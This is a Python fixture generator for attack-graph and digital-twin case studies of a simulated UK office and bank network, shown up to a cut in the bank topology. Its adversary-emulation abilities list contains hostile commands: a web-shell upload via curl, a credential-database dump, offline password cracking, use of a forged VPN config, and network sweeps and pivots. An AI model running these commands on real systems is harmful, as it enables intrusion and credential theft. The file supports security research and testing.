#!/usr/bin/env python3
"""Regenerates the case-study fixtures under fixtures/.

Counts that the tests rely on are asserted here, independently of the C++
code: node and link totals, topology fact totals, assumption totals.
"""

import csv
import io
import json
import os
import re
import shutil
import sys

HERE = os.path.dirname(os.path.abspath(__file__))


def const(text):
    if re.fullmatch(r"[a-z][A-Za-z0-9_]*", text):
        return text
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


def atom(pred, *args):
    return f"{pred}({','.join(const(a) for a in args)})"


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", newline="") as f:
        f.write(text)


def csv_text(header, rows):
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue()


def topology_fact_count(topo):
    facts = set()
    for s in topo["subnets"]:
        for m in s["members"]:
            facts.add(("isInSubnet", s["name"], m))
        for p in s.get("virtual_ports", []):
            facts.add(("belongsTo", s["name"], p))
    for i in topo["interfaces"]:
        if i.get("address"):
            facts.add(("hasIP", i["address"], i["node"]))
    for s in topo["services"]:
        facts.add(("networkService", s["node"], s["software"], s["protocol"], s["port"], s["account"]))
    for a in topo["acls"]:
        facts.add(("hacl", a["src"], a["dst"], a["protocol"], a["port"]))
    for s in topo["software"]:
        facts.add(("residesOn", s["node"], s["software"], s["version"]))
    for f in topo["flows"]:
        facts.add(("dataFlow", f["src"], f["dst"], f["name"], f["direction"]))
    for b in topo["data_bindings"]:
        facts.add(("dataBind", b["flow"], b["host"], b["path"]))
    return len(facts)


class Net:
    def __init__(self):
        self.nodes = []
        self.links = []
        self.interfaces = []

    def node(self, id, cls, os_name, role="host", gateway="", dns="", address=None, parent=None):
        n = {"id": id, "device_class": cls, "os": os_name, "role": role}
        if gateway:
            n["gateway"] = gateway
        if dns:
            n["dns"] = dns
        self.nodes.append(n)
        if address:
            self.interfaces.append({"node": id, "name": "eth0", "address": address})
        if parent:
            self.links.append({"a": parent, "b": id})
        return id

    def ids(self):
        return [n["id"] for n in self.nodes]


def pad_acls(topo, target, candidates, forbidden_dst):
    acls = topo["acls"]
    seen = {(a["src"], a["dst"], a["protocol"], a["port"]) for a in acls}
    ports = [("tcp", "443"), ("tcp", "22"), ("tcp", "3389"), ("udp", "161"), ("tcp", "8080")]
    i = 0
    while topology_fact_count(topo) < target:
        src = candidates[i % len(candidates)]
        dst = candidates[(i * 7 + 3) % len(candidates)]
        proto, port = ports[i % len(ports)]
        i += 1
        if src == dst or dst in forbidden_dst:
            continue
        key = (src, dst, proto, port)
        if key in seen:
            continue
        seen.add(key)
        acls.append({"src": src, "dst": dst, "protocol": proto, "port": port})
    assert topology_fact_count(topo) == target, topology_fact_count(topo)


def slug(text):
    return re.sub(r"[^a-z0-9]+", "_", text.lower()).strip("_")


def write_irs(root, prefix, entries, shared=None):
    """entries: (technique, [(number, desc, text)]). One IR file per rule;
    `shared` maps a rule number onto the rule whose file it joins."""
    shared = shared or {}
    rules_dir = os.path.join(root, "rules")
    shutil.rmtree(rules_dir, ignore_errors=True)
    files = {}
    contents = {}
    rows = []
    for tech, rules in entries:
        for number, desc, text in rules:
            owner = shared.get(number, number)
            if owner not in files:
                files[owner] = f"{prefix}_ir{owner:02d}_{slug(desc)}.P"
                contents[owner] = []
                rows.append([tech, files[owner]])
            contents[owner].append((number, desc, text))
    for owner, fname in files.items():
        write(os.path.join(rules_dir, fname), rule_file(contents[owner]))
    return rows


def rule_file(rules):
    out = []
    for number, desc, text in rules:
        out.append(f"% RULE {number} ({desc})\n{text}\n")
    return "\n".join(out)


def trace_csv(cpu_mean, ram_mean, io_bytes, duration, step):
    stamps = list(range(0, duration + 1, step))
    if stamps[-1] != duration:
        stamps.append(duration)
    n = len(stamps)
    rows = []
    for k, t in enumerate(stamps):
        # symmetric deviations around the mean; the odd middle sample sits on it
        j = k if k < n // 2 else n - 1 - k
        sign = 1 if k < n // 2 else -1
        if n % 2 == 1 and k == n // 2:
            sign = 0
        dev_c = sign * (0.5 + 0.25 * (j % 4))
        dev_r = sign * 0.001 * (j % 3)
        rows.append([str(t), f"{cpu_mean + dev_c:.4f}", f"{ram_mean + dev_r:.4f}", str(io_bytes)])
    return csv_text(["timestamp_s", "cpu_pct", "ram_gb", "io_bytes"], rows)


TEMPLATES = {
    "ubuntu_docker": {"template": "docker:ubuntu-22.04", "platform": "linux"},
    "openwrt_fw": "qemu:openwrt-23.05-fw",
    "openwrt_l3": "qemu:openwrt-23.05-l3",
    "cloud": "builtin:cloud",
    "l2_switch": "builtin:ethernet_switch",
    "voip_switch": "qemu:openwrt-23.05-voip",
    "ap_controller": "qemu:openwrt-23.05-apc",
    "fle4n": "qemu:fle4n-1.2",
    "windows_10": {"template": "qemu:Win10-x64-lite", "platform": "windows"},
    "ip_phone": "docker:sip-phone",
    "wifi_ap": "qemu:openwrt-23.05-ap",
    "iot_sensor": "docker:alpine-3.19",
    "nas": "qemu:truenas-13",
    "laptop": {"template": "qemu:Win10-x64-lite", "platform": "windows"},
    "iosv_router": "qemu:cisco-iosv-15.9",
    "ip_camera": {"template": "docker:ubuntu-22.04", "platform": "linux"},
    "dvr": {"template": "docker:ubuntu-22.04", "platform": "linux"},
    "atm": "qemu:atm-xfs-sim",
    "printer": "docker:cups-2.4",
}

# ---------------------------------------------------------------- UK Office

UK_HACKER = "intergalactic-hacker"
UK_GW = "intergalactic-vpn-gw"
UK_DNS = "intergalactic-dns"
UK_ALPINE = "alpine-openvpn-1"
UK_WEBUI = "intergalactic-web-ui"


def uk_topology():
    n = Net()
    ub, ow, win = "Ubuntu 22.04", "OpenWrt 23.05", "Windows 10"
    n.node("cloud", "cloud", "none", role="cloud")
    n.node(UK_HACKER, "ubuntu_docker", ub, gateway="cloud", address="203.0.113.66", parent="cloud")
    n.node("fw-openwrt", "openwrt_fw", ow, role="firewall", gateway="cloud", address="192.0.2.1", parent="cloud")
    n.node("core-l3-switch", "openwrt_l3", ow, role="switch", gateway="fw-openwrt", address="10.0.10.1", parent="fw-openwrt")
    n.node(UK_GW, "ubuntu_docker", ub, gateway="core-l3-switch", dns=UK_DNS, address="10.0.10.5", parent="core-l3-switch")
    n.node(UK_DNS, "ubuntu_docker", ub, role="dns", gateway="core-l3-switch", address="10.0.10.53", parent="core-l3-switch")
    n.node("voip-switch", "voip_switch", ow, role="switch", address="10.0.40.1", parent="core-l3-switch")
    n.node("ap-controller", "ap_controller", ow, role="switch", address="10.0.40.2", parent="voip-switch")
    n.node("fle4n", "fle4n", ow, role="ap", address="10.0.40.3", parent="ap-controller")
    n.node(UK_ALPINE, "ubuntu_docker", ub, gateway="core-l3-switch", address="10.8.10.2", parent="fle4n")
    twin = n.ids()

    def dept(switch, parent, hosts, cls, os_name, net):
        n.node(switch, "l2_switch", "none", role="switch", parent=parent)
        for k, h in enumerate(hosts):
            n.node(h, cls, os_name, gateway="core-l3-switch", dns=UK_DNS, address=f"{net}.{10 + k}", parent=switch)

    dept("admin-switch", "core-l3-switch", [f"admin-pc-{i}" for i in range(1, 7)], "windows_10", win, "10.0.20")
    n.node("storage-switch", "l2_switch", "none", role="switch", parent="core-l3-switch")
    n.node("nas-1", "nas", "TrueNAS 13", address="10.0.30.10", parent="storage-switch")
    n.node("nas-2", "nas", "TrueNAS 13", address="10.0.30.11", parent="storage-switch")
    n.node("backup-server", "ubuntu_docker", ub, address="10.0.30.12", parent="storage-switch")
    n.node("guest-ap", "wifi_ap", ow, role="ap", parent="core-l3-switch")
    for i in range(1, 4):
        n.node(f"guest-laptop-{i}", "laptop", win, address=f"10.0.50.{10 + i}", parent="guest-ap")
    n.node("server-switch", "l2_switch", "none", role="switch", parent="core-l3-switch")
    for k, h in enumerate(["web-server", "mail-server", "file-server", "print-server", "ad-server"]):
        n.node(h, "ubuntu_docker", ub, gateway="core-l3-switch", dns=UK_DNS, address=f"10.0.30.{20 + k}", parent="server-switch")
    dept("dev-switch", "core-l3-switch", [f"dev-ws-{i}" for i in range(1, 6)], "ubuntu_docker", ub, "10.0.60")
    for i in range(1, 7):
        n.node(f"voip-phone-{i}", "ip_phone", "Linux", address=f"10.0.40.{20 + i}", parent="voip-switch")
    for i in range(1, 4):
        n.node(f"ap-{i}", "wifi_ap", ow, role="ap", address=f"10.0.40.{30 + i}", parent="ap-controller")
    for i in range(1, 5):
        n.node(f"iot-sensor-{i}", "iot_sensor", "Alpine 3.19", address=f"10.0.40.{40 + i}", parent="fle4n")
    dept("hr-switch", "core-l3-switch", [f"hr-pc-{i}" for i in range(1, 4)], "windows_10", win, "10.0.20")
    # hr and admin share a /24 in the original plan; give hr its own addresses
    for i in n.interfaces:
        if i["node"].startswith("hr-pc-"):
            i["address"] = i["address"].replace("10.0.20.", "10.0.21.")

    ids = n.ids()
    assert len(ids) == 54 and len(set(ids)) == 54
    assert len(n.links) == 53
    others = [i for i in ids if i not in twin]

    subnets = [
        {"name": "internet", "members": [UK_HACKER, "cloud"]},
        {"name": "core", "vlan": 10, "members": ["core-l3-switch", UK_GW, UK_DNS, "fw-openwrt"]},
        {"name": "iot", "vlan": 40,
         "members": ["voip-switch", "ap-controller", "fle4n", UK_ALPINE]
         + [i for i in ids if re.fullmatch(r"(voip-phone|ap|iot-sensor)-\d+", i)]},
        {"name": "admin", "vlan": 20, "members": [i for i in ids if i.startswith(("admin-", "hr-"))]},
        {"name": "storage", "vlan": 30,
         "members": ["storage-switch", "nas-1", "nas-2", "backup-server", "server-switch", "web-server",
                     "mail-server", "file-server", "print-server", "ad-server"]},
        {"name": "guest", "vlan": 50, "members": [i for i in ids if i.startswith("guest-")]},
        {"name": "dev", "vlan": 60, "members": [i for i in ids if i.startswith("dev-")]},
    ]
    covered = [m for s in subnets for m in s["members"]]
    assert sorted(covered) == sorted(ids), set(ids) ^ set(covered)

    topo = {
        "nodes": n.nodes,
        "interfaces": n.interfaces,
        "links": n.links,
        "software": [
            {"node": UK_GW, "software": UK_WEBUI, "version": "2.4.12"},
            {"node": UK_GW, "software": UK_WEBUI, "version": "0.1.0rc0"},
            {"node": UK_DNS, "software": "bind9", "version": "9.18.18"},
            {"node": "web-server", "software": "nginx", "version": "1.24.0"},
            {"node": "mail-server", "software": "postfix", "version": "3.7.6"},
            {"node": "ad-server", "software": "samba", "version": "4.18.5"},
        ],
        "services": [
            {"node": UK_GW, "software": UK_WEBUI, "protocol": "udp", "port": "1194", "account": "root"},
            {"node": UK_GW, "software": UK_WEBUI, "protocol": "http", "port": "80", "account": "root"},
            {"node": UK_DNS, "software": "bind9", "protocol": "udp", "port": "53", "account": "bind"},
            {"node": "web-server", "software": "nginx", "protocol": "http", "port": "80", "account": "www-data"},
            {"node": "mail-server", "software": "postfix", "protocol": "tcp", "port": "25", "account": "postfix"},
            {"node": "file-server", "software": "samba", "protocol": "tcp", "port": "445", "account": "root"},
            {"node": "ad-server", "software": "samba", "protocol": "tcp", "port": "389", "account": "root"},
            {"node": "nas-1", "software": "nfsd", "protocol": "tcp", "port": "2049", "account": "root"},
        ],
        "acls": [
            {"src": UK_ALPINE, "dst": UK_GW, "protocol": "udp", "port": "1194"},
            {"src": UK_HACKER, "dst": UK_GW, "protocol": "http", "port": "80"},
            {"src": UK_HACKER, "dst": UK_GW, "protocol": "udp", "port": "1194"},
        ],
        "subnets": subnets,
        "flows": [
            {"name": "vpn-tunnel", "src": UK_ALPINE, "dst": UK_GW, "direction": "bidirectional"},
            {"name": "dns-lookup", "src": UK_GW, "dst": UK_DNS, "direction": "outbound"},
            {"name": "mail-relay", "src": "mail-server", "dst": "web-server", "direction": "outbound"},
        ],
        "data_bindings": [
            {"flow": "vpn-tunnel", "host": UK_GW, "path": "/etc/openvpn/server.conf"},
            {"flow": "mail-relay", "host": "mail-server", "path": "/var/spool/postfix"},
        ],
    }
    hosts_for_pad = [i for i in others if not i.endswith("-switch") and i != "guest-ap"]
    pad_acls(topo, 146, hosts_for_pad, {UK_GW})
    return topo, twin


UK_CHAIN_RULES = {
    5: ("Net direct access.",
        "netAccess(P,H1,H2,Proto,Port) :-\n    hasAccess(P,H1,H2,Proto,Port),\n    hacl(H1,H2,Proto,Port)."),
    18: ("Remote software compromise.",
         "softwareCompromisedRemotely(H1,H2) :-\n    netAccess(P,H1,H2,Proto,Port),\n"
         "    networkService(H2,Sw,Proto,Port,Acct),\n    residesOn(H2,Sw,Ver),\n"
         "    vulExists(Cve,Sw,Ver,network,codeExec,Sev)."),
    19: ("Local privilege escalation.",
         "softwareCompromisedLocally(H) :-\n    netAccess(P,Src,H,http,Port),\n    hasAccount(root,H,Acct),\n"
         "    residesOn(H,Sw,Ver),\n    vulExists(Cve,Sw,Ver,network,privEscalation,Sev)."),
    20: ("Forge VPN certificate.",
         "canCreateValidVPNCertificate(A,Gw) :-\n    softwareCompromisedLocally(Gw),\n"
         "    certificateAuthority(Gw,Ca),\n    attackerLocated(A)."),
    21: ("VPN network access.",
         "canAccessVPN(A,Gw) :-\n    canCreateValidVPNCertificate(A,Gw),\n    compromisedVPNClient(A,Gw)."),
    15: ("Host compromised.",
         "compromisedVPNClient(H,Gw) :-\n    softwareCompromisedRemotely(H,Gw),\n"
         "    networkService(Gw,Sw,udp,'1194',Acct)."),
    22: ("Lateral movement over VPN network.",
         "lateralMovementVPN(A,Gw,C) :-\n    canAccessVPN(A,Gw),\n    compromisedVPNClient(C,Gw),\n"
         "    inSubnet(C,vpn)."),
}

UK_FILLER_RULES = {
    1: ("Web-UI banner discloses version.",
        "webUiVersionExposed(H,Sw,Ver) :-\n    networkService(H,Sw,http,Port,Acct),\n    residesOn(H,Sw,Ver),\n"
        "    bannerDisclosure(H,Sw).", ["bannerDisclosure"]),
    2: ("Interface configuration readable.",
        "networkConfigDiscovered(P,H) :-\n    hasAccess(P,Src,H,Proto,Port),\n    ifconfigReadable(H).",
        ["ifconfigReadable"]),
    3: ("Routing table leak over SNMP.",
        "routeTableLeak(H,Gw) :-\n    snmpCommunityPublic(H),\n    hasIP(Addr,H),\n    defaultRoute(H,Gw).",
        ["snmpCommunityPublic", "defaultRoute"]),
    4: ("Web shell planted.",
        "webShellPlanted(H,Path) :-\n    writableWebRoot(H,Path),\n    softwareCompromisedRemotely(Src,H).",
        ["writableWebRoot"]),
    6: ("Upload filter bypass.",
        "uploadFilterBypass(H,Sw) :-\n    uploadEndpoint(H,Sw),\n    networkService(H,Sw,http,Port,Acct).",
        ["uploadEndpoint"]),
    7: ("Credential store exposed.",
        "credentialStoreExposed(H,Store) :-\n    credentialStore(H,Store),\n    softwareCompromisedLocally(H).",
        ["credentialStore"]),
    8: ("Browser passwords dumped.",
        "browserPasswordsDumped(User,H) :-\n    browserProfile(User,H),\n    localAdmin(User,H).",
        ["browserProfile", "localAdmin"]),
    9: ("Password hash cracked.",
        "hashCracked(User,Hash) :-\n    passwordHash(User,Hash),\n    weakPassword(User).",
        ["passwordHash", "weakPassword"]),
    10: ("Offline cracking capability.",
         "offlineCrackingRig(A) :-\n    gpuAvailable(A),\n    attackerLocated(A).", ["gpuAvailable"]),
    11: ("External remote service.",
         "externalRemoteService(H,Proto,Port) :-\n    networkService(H,Sw,Proto,Port,Acct),\n    exposedToInternet(H).",
         ["exposedToInternet"]),
    12: ("VPN account reuse.",
         "vpnAccountReuse(User,Gw) :-\n    vpnUser(User,Gw),\n    reusedCredential(User).",
         ["vpnUser", "reusedCredential"]),
    13: ("Service scan over VPN.",
         "serviceScanned(A,H,Port) :-\n    canAccessVPN(A,Gw),\n    vpnRoutedHost(Gw,H),\n    openPort(H,Port).",
         ["vpnRoutedHost", "openPort"]),
    14: ("Subnet enumeration over VPN.",
         "hostEnumerated(A,Subnet) :-\n    canAccessVPN(A,Gw),\n    routedSubnet(Gw,Subnet).", ["routedSubnet"]),
    16: ("Trusted SSH key.",
         "sshKeyTrusted(User,H) :-\n    authorizedKey(User,H),\n    sshEnabled(H).", ["authorizedKey", "sshEnabled"]),
}

UK_IR_FILES = [
    ("T1016", "uk_t1016_network_config_discovery.P", [5, 1, 2, 3]),
    ("T1505.003", "uk_t1505_003_web_shell.P", [18, 4, 6]),
    ("T1555", "uk_t1555_credential_stores.P", [19, 7, 8]),
    ("T1110.002", "uk_t1110_002_password_cracking.P", [20, 9, 10]),
    ("T1133", "uk_t1133_external_remote_services.P", [21, 11, 12]),
    ("T1423", "uk_t1423_network_service_scanning.P", [15, 13, 14]),
    ("T1021.004", "uk_t1021_004_ssh.P", [22, 16]),
]


def uk_assumptions(others):
    base = [
        atom("hasAccess", "alice", UK_ALPINE, UK_GW, "udp", "1194"),
        atom("hasAccess", "hacker", UK_HACKER, UK_GW, "http", "80"),
        atom("hasAccess", "hacker", UK_HACKER, UK_GW, "udp", "1194"),
        atom("hasAccount", "root", UK_GW, "operating-system-administration-account"),
        atom("certificateAuthority", UK_GW, "ca1"),
        atom("certificateAuthority", UK_GW, "ca2"),
        atom("attackerLocated", UK_HACKER),
        atom("inSubnet", UK_ALPINE, "vpn"),
    ]
    hosts = [h for h in others if not h.endswith("-switch")]
    makers = [
        lambda h, i: atom("bannerDisclosure", h, "httpd"),
        lambda h, i: atom("ifconfigReadable", h),
        lambda h, i: atom("snmpCommunityPublic", h),
        lambda h, i: atom("defaultRoute", h, "core-l3-switch"),
        lambda h, i: atom("writableWebRoot", h, "/var/www/html"),
        lambda h, i: atom("uploadEndpoint", h, "httpd"),
        lambda h, i: atom("credentialStore", h, "keyring"),
        lambda h, i: atom("browserProfile", f"user{i}", h),
        lambda h, i: atom("localAdmin", f"user{i}", h),
        lambda h, i: atom("passwordHash", f"user{i}", f"hash{i}"),
        lambda h, i: atom("weakPassword", f"user{i}"),
        lambda h, i: atom("gpuAvailable", h),
        lambda h, i: atom("exposedToInternet", h),
        lambda h, i: atom("vpnUser", f"user{i}", UK_GW),
        lambda h, i: atom("reusedCredential", f"user{i}"),
        lambda h, i: atom("vpnRoutedHost", UK_GW, h),
        lambda h, i: atom("openPort", h, "22"),
        lambda h, i: atom("routedSubnet", UK_GW, f"net{i}"),
        lambda h, i: atom("authorizedKey", f"user{i}", h),
        lambda h, i: atom("sshEnabled", h),
        lambda h, i: atom("hasAccount", f"user{i}", h, "domain-user"),
        lambda h, i: atom("inSubnet", h, "office"),
    ]
    out = list(base)
    i = 0
    while len(out) < 112:
        a = makers[i % len(makers)](hosts[(i * 5) % len(hosts)], i)
        if a not in out:
            out.append(a)
        i += 1
    assert len(out) == 112 and len(set(out)) == 112
    return out


UK_ABILITIES = [
    {"name": "Web-UI version probe", "ability_number": "1a0f3c52-6a1e-4d0b-9b61-0f16a0000001",
     "technique": "T1016", "technique_name": "System Network Configuration Discovery",
     "description": "Query the web-UI version endpoint.", "type": "discovery", "tags": ["discovery"],
     "platform": "linux", "executor": "sh", "command": "curl -s http://#{host.ip}:#{service.port}/api/version"},
    {"name": "Web-UI version probe (verbose)", "ability_number": "9c9d6b21-2f7a-4b1c-8a3e-0f16a0000002",
     "technique": "T1016", "technique_name": "System Network Configuration Discovery",
     "description": "Verbose variant of the version probe.", "type": "discovery", "tags": ["discovery"],
     "platform": "linux", "executor": "sh", "command": "curl -v http://#{host.ip}/api/version"},
    {"name": "Web-UI RCE (shell upload)", "ability_number": "2b5e7d10-4c3f-4e2a-8f70-1505a0000003",
     "technique": "T1505.003", "technique_name": "Server Software Component: Web Shell",
     "description": "Upload a web shell through the web-UI flaw.", "type": "persistence", "tags": ["web_shell"],
     "platform": "linux", "executor": "sh", "command": "curl -s -F file=@shell.php http://#{host.ip}:#{service.port}/upload"},
    {"name": "Credential dump (VPN DB)", "ability_number": "3c1d2e4f-5a6b-4c7d-8e9f-1555a0000004",
     "technique": "T1555", "technique_name": "Credentials from Password Stores",
     "description": "Dump the VPN user database.", "type": "credential_access", "tags": ["credential_access"],
     "platform": "linux", "executor": "sh", "command": "sqlite3 /var/lib/web-ui/users.db .dump > /tmp/#{host.name}.sql"},
    {"name": "Password cracking (John)", "ability_number": "4d2e3f5a-6b7c-4d8e-9fa0-1110a0000005",
     "technique": "T1110.002", "technique_name": "Brute Force: Password Cracking",
     "description": "Crack dumped hashes offline.", "type": "credential_access", "tags": ["brute_force"],
     "platform": "linux", "executor": "sh", "command": "john --wordlist=rockyou.txt /tmp/hashes.txt"},
    {"name": "Client-certificate forgery", "ability_number": "5e3f4a6b-7c8d-4e9f-a0b1-1133a0000006",
     "technique": "T1133", "technique_name": "External Remote Services",
     "description": "Forge a client certificate and connect to the VPN.", "type": "initial_access",
     "tags": ["external_remote_services"], "platform": "linux", "executor": "sh",
     "command": "openvpn --config forged-#{host.name}.ovpn --daemon"},
    {"name": "VPN network scan", "ability_number": "6f4a5b7c-8d9e-4fa0-b1c2-1423a0000007",
     "technique": "T1423", "technique_name": "Network Service Scanning",
     "description": "Sweep the VPN address range.", "type": "discovery", "tags": ["discovery"],
     "platform": "linux", "executor": "sh", "command": "nmap -sn 10.8.0.0/24"},
    {"name": "SSH pivot to internal host", "ability_number": "7a5b6c8d-9e0f-4a1b-c2d3-1021a0000008",
     "technique": "T1021.004", "technique_name": "Remote Services: SSH",
     "description": "Open an SSH session on the next host.", "type": "lateral_movement", "tags": ["ssh"],
     "platform": "linux", "executor": "sh", "command": "ssh #{host.ip}"},
    {"name": "Remote desktop pivot", "ability_number": "8b6c7d9e-0f1a-4b2c-d3e4-1021a0000009",
     "technique": "T1021.001", "technique_name": "Remote Services: Remote Desktop Protocol",
     "description": "RDP into a Windows host.", "type": "lateral_movement", "tags": ["rdp"],
     "platform": "windows", "executor": "psh", "command": "mstsc /v:#{host.ip}"},
]

UK_SCENARIO_STEPS = [
    ("T1016", atom("netAccess", "hacker", UK_HACKER, UK_GW, "http", "80"), UK_GW),
    ("T1505.003", atom("softwareCompromisedRemotely", UK_HACKER, UK_GW), UK_GW),
    ("T1555", atom("softwareCompromisedLocally", UK_GW), UK_GW),
    ("T1110.002", atom("canCreateValidVPNCertificate", UK_HACKER, UK_GW), UK_HACKER),
    ("T1133", atom("canAccessVPN", UK_HACKER, UK_GW), UK_HACKER),
    ("T1423", atom("compromisedVPNClient", UK_ALPINE, UK_GW), UK_HACKER),
    ("T1021.004", atom("lateralMovementVPN", UK_HACKER, UK_GW, UK_ALPINE), UK_ALPINE),
    ("T1021.004", atom("lateralMovementVPN", UK_HACKER, UK_GW, UK_ALPINE), "core-l3-switch"),
]


def yaml_scalar(v):
    return json.dumps(v)


def abilities_yaml(abilities):
    docs = []
    for a in abilities:
        lines = []
        for k in ["name", "ability_number", "technique", "technique_name", "description", "type"]:
            lines.append(f"{k}: {yaml_scalar(a[k])}")
        lines.append("tags:")
        lines += [f"  - {t}" for t in a["tags"]]
        for k in ["platform", "executor", "command"]:
            lines.append(f"{k}: {yaml_scalar(a[k])}")
        docs.append("\n".join(lines) + "\n")
    return "---\n" + "---\n".join(docs)


def scenario_yaml(name, steps):
    lines = [f"name: {name}", "steps:"]
    for tech, ag, host in steps:
        lines.append(f"  - technique: {yaml_scalar(tech)}")
        lines.append(f"    ag_step: {yaml_scalar(ag)}")
        lines.append(f"    host: {yaml_scalar(host)}")
    return "\n".join(lines) + "\n"


def write_uk():
    root = os.path.join(HERE, "uk_office")
    topo, twin = uk_topology()
    others = [n["id"] for n in topo["nodes"] if n["id"] not in twin]
    write(os.path.join(root, "topology.json"), json.dumps(topo, indent=2) + "\n")
    write(os.path.join(root, "vulns.csv"), csv_text(
        ["cve_id", "software", "version", "access_vector", "lose_types", "severity"],
        [["cve-2023-27524", UK_WEBUI, "2.4.12", "network", "privEscalation", "high"],
         ["cve-zero-day-web-ui-execute", UK_WEBUI, "0.1.0rc0", "network", "codeExec", "critical"],
         ["cve-2021-44228", "log4j", "2.14.1", "network", "codeExec", "critical"]]))
    rules = dict(UK_CHAIN_RULES)
    for k, (desc, text, _) in UK_FILLER_RULES.items():
        rules[k] = (desc, text)
    assert len(rules) == 21
    used = [k for _, _, numbers in UK_IR_FILES for k in numbers]
    assert sorted(used) == sorted(rules)
    ir_rows = write_irs(root, "uk", [(tech, [(k, *rules[k]) for k in numbers]) for tech, _, numbers in UK_IR_FILES])
    assert len(ir_rows) == 21
    write(os.path.join(root, "rules", "zz_goal.P"),
          f"attackGoal({atom('lateralMovementVPN', UK_HACKER, UK_GW, UK_ALPINE)}).\n")
    write(os.path.join(root, "map_irs.csv"), csv_text(["technique_id", "ir_file"], ir_rows))
    write(os.path.join(root, "assumptions.P"), "\n".join(a + "." for a in uk_assumptions(others)) + "\n")
    write(os.path.join(root, "abilities.yml"), abilities_yaml(UK_ABILITIES))
    write(os.path.join(root, "map_abilities.csv"), csv_text(
        ["technique_id", "ability_number"],
        [[a["technique"], a["ability_number"]] for a in UK_ABILITIES]))
    write(os.path.join(root, "scenario.yml"), scenario_yaml("ukoffice_op", UK_SCENARIO_STEPS))
    write(os.path.join(root, "templates.json"), json.dumps(TEMPLATES, indent=2) + "\n")
    write(os.path.join(root, "faults.json"), json.dumps({"seed": 7}, indent=2) + "\n")
    write(os.path.join(root, "full_trace.csv"), trace_csv(13.64, 0.134, 524288, 736, 16))
    write(os.path.join(root, "twin_trace.csv"), trace_csv(11.11, 0.129, 524288, 456, 16))


# --------------------------------------------------------------------- Bank

BANK_TWIN_LINKS = [
    ("cameraA", "sw100"), ("sw100", "r1"), ("r1", "l3-core"),
    ("DVR", "sw110"), ("sw110", "r2"), ("r2", "l3-core"),
    ("adminPC1", "sw120"), ("sw120", "r3"), ("r3", "l3-core"),
    ("l3-core", "fw"), ("fw", "cloud"),
]


def bank_topology(extra_nodes=0, isolated=0):
    n = Net()
    ub, ios, ow = "Ubuntu 22.04", "IOSv 15.9", "OpenWrt 23.05"
    n.node("cloud", "cloud", "none", role="cloud")
    n.node("fw", "openwrt_fw", ow, role="firewall", gateway="cloud", address="192.0.2.1", parent="cloud")
    n.node("l3-core", "openwrt_l3", ow, role="switch", gateway="fw", address="10.0.0.1", parent="fw")
    for r, sw, net in [("r1", "sw100", 100), ("r2", "sw110", 110), ("r3", "sw120", 120)]:
        n.node(r, "iosv_router", ios, role="router", gateway="l3-core", address=f"10.0.{net}.254", parent="l3-core")
        n.node(sw, "l2_switch", "none", role="switch", parent=r)
    n.node("cameraA", "ip_camera", ub, gateway="r1", address="192.168.100.10", parent="sw100")
    n.node("DVR", "dvr", ub, gateway="r2", address="192.168.110.10", parent="sw110")
    n.node("adminPC1", "ubuntu_docker", ub, gateway="r3", address="192.168.120.10", parent="sw120")
    twin = n.ids()
    assert len(twin) == 12

    def host(id, cls, os_name, parent, gw, addr):
        n.node(id, cls, os_name, gateway=gw, address=addr, parent=parent)

    for i, c in enumerate(["cameraB", "cameraC", "cameraD"]):
        host(c, "ip_camera", ub, "sw100", "r1", f"192.168.100.{11 + i}")
    host("nvr-2", "dvr", ub, "sw110", "r2", "192.168.110.11")
    for i in range(1, 4):
        host(f"server-110-{i}", "ubuntu_docker", ub, "sw110", "r2", f"192.168.110.{20 + i}")
    for i in range(2, 5):
        host(f"adminPC{i}", "ubuntu_docker", ub, "sw120", "r3", f"192.168.120.{9 + i}")
    floors = [("r4", "sw130", "hr-pc", 8, 130), ("r5", "sw140", "marketing-pc", 8, 140),
              ("r6", "sw150", "accounting-pc", 8, 150), ("r7", "sw160", "teller-pc", 10, 160)]
    for r, sw, prefix, count, net in floors:
        n.node(r, "iosv_router", ios, role="router", gateway="l3-core", address=f"10.0.{net}.254", parent="l3-core")
        n.node(sw, "l2_switch", "none", role="switch", parent=r)
        for i in range(1, count + 1):
            host(f"{prefix}-{i}", "windows_10", "Windows 10", sw, r, f"192.168.{net}.{10 + i}")
    n.node("dmz-switch", "l2_switch", "none", role="switch", parent="fw")
    for i, h in enumerate(["web-1", "web-2", "mail", "dns-dmz", "proxy"]):
        host(h, "ubuntu_docker", ub, "dmz-switch", "fw", f"172.16.0.{10 + i}")
    n.node("dc-switch", "l2_switch", "none", role="switch", parent="l3-core")
    dc = ["dc-1", "dc-2", "file-1", "file-2", "db-1", "db-2", "backup-1", "siem"]
    for i, h in enumerate(dc):
        host(h, "ubuntu_docker", ub, "dc-switch", "l3-core", f"10.1.0.{10 + i}")
    for i in range(1, 3):
        host(f"printer-{i}", "printer", "Linux", "dc-switch", "l3-core", f"10.1.0.{30 + i}")
    n.node("atm-switch", "l2_switch", "none", role="switch", parent="l3-core")
    for i in range(1, 9):
        host(f"atm-{i}", "atm", "Windows 10", "atm-switch", "l3-core", f"10.2.0.{10 + i}")
    n.node("wifi-controller", "ap_controller", ow, role="switch", parent="l3-core")
    for i in range(1, 5):
        host(f"wap-{i}", "wifi_ap", ow, "wifi-controller", "l3-core", f"10.3.0.{10 + i}")
    ids = n.ids()
    assert len(ids) == 95, len(ids)
    assert len(n.links) == 94
    n.links.append({"a": "hr-pc-1", "b": "hr-pc-2"})
    n.links.append({"a": "marketing-pc-1", "b": "marketing-pc-2"})

    parents = ["sw130", "sw140", "sw150", "sw160", "dc-switch", "atm-switch"]
    for i in range(extra_nodes):
        p = parents[i % len(parents)]
        n.node(f"xl-host-{i + 1:04d}", "windows_10", "Windows 10", gateway="l3-core",
               address=f"10.{10 + i // 250}.{i % 250}.10", parent=p)
    for i in range(isolated):
        n.node(f"xl-wireless-{i + 1}", "wifi_ap", ow, role="ap")

    ends = [x["node"] for x in n.interfaces if x["node"] not in
            ("fw", "l3-core", "r1", "r2", "r3", "r4", "r5", "r6", "r7")]

    def members(prefixes):
        return [h for h in ends if h.startswith(prefixes)]

    subnets = [
        {"name": "vlan100", "vlan": 100, "members": members(("camera",)), "virtual_ports": ["Gi0/1"]},
        {"name": "vlan110", "vlan": 110, "members": members(("DVR", "nvr-", "server-110-"))},
        {"name": "vlan120", "vlan": 120, "members": members(("adminPC",))},
